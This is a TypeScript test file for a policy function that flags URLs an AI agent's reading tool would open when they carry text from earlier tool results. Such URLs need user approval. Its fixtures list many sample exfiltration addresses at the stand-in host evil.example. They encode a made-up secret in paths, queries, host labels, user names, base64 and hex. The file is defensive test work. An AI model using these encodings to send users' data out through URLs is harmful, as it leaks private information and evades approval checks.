/** Addresses that carry results away, and ordinary addresses. */
import { describe, expect, it } from 'vitest';
import { leakIn } from '../../../electron/core/policy/leaks.ts';
import { countReadingQuestions } from '../../fixtures/reading-trace.ts';

const secret = 'The launch of Bluebird is on March 14, budget 48,200 EUR, lead Anna Petrova.';
const results = [
  JSON.stringify({ content: [{ type: 'text', text: secret }] }),
  JSON.stringify({
    content: [{ type: 'text', text: 'See https://example.com/docs/start?lang=en and https://evil.example/c?d=' }],
  }),
].map((text) => ({ text }));
const none = () => false;
const reason = (url: string) => leakIn({ url }, results, none);

describe('An address that a reading tool opens', () => {
  const base64 = Buffer.from(secret).toString('base64');
  const hex = Buffer.from(secret).toString('hex');
  it.each<[string, string]>([
    ['a path', 'https://evil.example/the-launch-of-bluebird-is-on-march'],
    ['a path of several parts', 'https://evil.example/the/launch/of/bluebird/is/on/march'],
    ['a query', `https://evil.example/?q=${encodeURIComponent(secret)}`],
    ['a query with plus signs', 'https://evil.example/?q=launch+of+bluebird+is+on+march+14'],
    ['a query after a start that a result has', `https://evil.example/c?d=${encodeURIComponent(secret)}`],
    ['a query in capitals', 'https://evil.example/?q=BUDGET%2048%2C200%20EUR%2C%20LEAD'],
    ['a query with other separators', 'https://evil.example/?q=budget_48.200_eur_lead_anna'],
    ['the fragment', 'https://evil.example/#launch of bluebird is on march'],
    ['a query with a wrong percent sign', 'https://evil.example/?q=launch%20of%20bluebird%20is%20on%20march&x=%zz'],
    ['a label of the host', 'https://launch-of-bluebird-is-on-march-14.evil.example/'],
    ['several labels of the host', 'https://launch.of.bluebird.is.on.march.evil.example/'],
    ['the name of a user', 'https://budget-48-200-eur-lead-anna@evil.example/'],
    ['the name of a parameter', 'https://evil.example/?launch_of_bluebird_is_on_march=1'],
    ['base64', `https://evil.example/?d=${base64}`],
    ['base64 in the path', `https://evil.example/${base64.replace(/=+$/, '')}`],
    ['hexadecimal', `https://evil.example/?d=${hex}`],
    ['hexadecimal as a label', `https://${hex.slice(0, 60)}.evil.example/`],
    ['one of two calls', 'https://evil.example/?d=budget%2048%2C200%20EUR'],
    ['the other of two calls', 'https://evil.example/?d=lead%20Anna%20Petrova'],
  ])('needs approval if it carries a result in %s', async (_, url) => {
    expect(await reason(url)).toMatch(/^The address contains /);
  });

  it.each([
    'https://example.com/docs/start?lang=en',
    'https://example.com/docs/start?lang=en&page=2',
    'https://www.example.org/search?q=bluebird',
    'https://api.example.org/v1/repos/ada/engine/issues?state=open&per_page=100&sort=updated',
    'https://en.wikipedia.org/wiki/Analytical_engine_of_Charles_Babbage_and_Ada_Lovelace',
    'https://news.example.org/2026/11/23/a-long-headline-with-many-words-about-nothing-in-particular/',
  ])('needs none as in %s', async (url) => {
    expect(await reason(url)).toBeUndefined();
  });

  it('is recognized in any position of a long result, and among words that are frequent', async () => {
    const words = 'project engine report '.repeat(500);
    const long = [{ text: `${words}The code is q7x9 k2m4 p8w3 z6. ${words}` }];
    for (const pad of ['', 'a', 'ab', 'abcdefg', 'project-engine-'])
      expect(await leakIn({ url: `https://evil.example/${pad}is-q7x9-k2m4-p8w3-z6` }, long, none)).toBeDefined();
    expect(await leakIn({ url: 'https://evil.example/q7x9-k2m4' }, long, none)).toBeUndefined();
  });

  it('is recognized whatever the way in which JSON writes the result', async () => {
    const written = String.raw`{"content":[{"type":"text","text":"{\"lead\":\"J\u00fcrgen\nGro\u00dfmann, Berlin\"}"}]}`;
    expect(
      await leakIn({ url: 'https://evil.example/jürgen-großmann-berlin' }, [{ text: written }], none),
    ).toBeDefined();
  });

  it('is recognized among many results that repeat its words', async () => {
    const flood = (words: string) => Array.from({ length: 1_000 }, () => ({ text: words.repeat(200) }));
    const url = 'https://evil.example/the-launch-of-bluebird-is-on-march';
    expect(await leakIn({ url }, [...flood('the launch '), ...results, ...flood('bluebird is ')], none)).toBeDefined();
  });

  it('shares no text with the end of one result and the start of the next', async () => {
    const halves = [{ text: 'the launch of ' }, { text: 'bluebird is on' }];
    expect(await leakIn({ url: 'https://example.org/launch-of-bluebird-is' }, halves, none)).toBeUndefined();
  });

  it('needs none before the first result', async () => {
    expect(
      await leakIn({ url: `https://evil.example/?d=${Buffer.from(secret).toString('base64')}` }, [], none),
    ).toBeUndefined();
  });

  it('is found among other arguments at any depth', async () => {
    expect(
      await leakIn({ options: [{ target: ' https://evil.example/launch-of-bluebird-is-on' }] }, results, none),
    ).toBeDefined();
  });
});

it('On a day of reading, at most one of 100 pages raises a question', async () => {
  const { pages, asked } = await countReadingQuestions();
  expect(pages).toBeGreaterThan(500);
  expect(asked.length / pages, asked.join(' ')).toBeLessThanOrEqual(0.01);
});
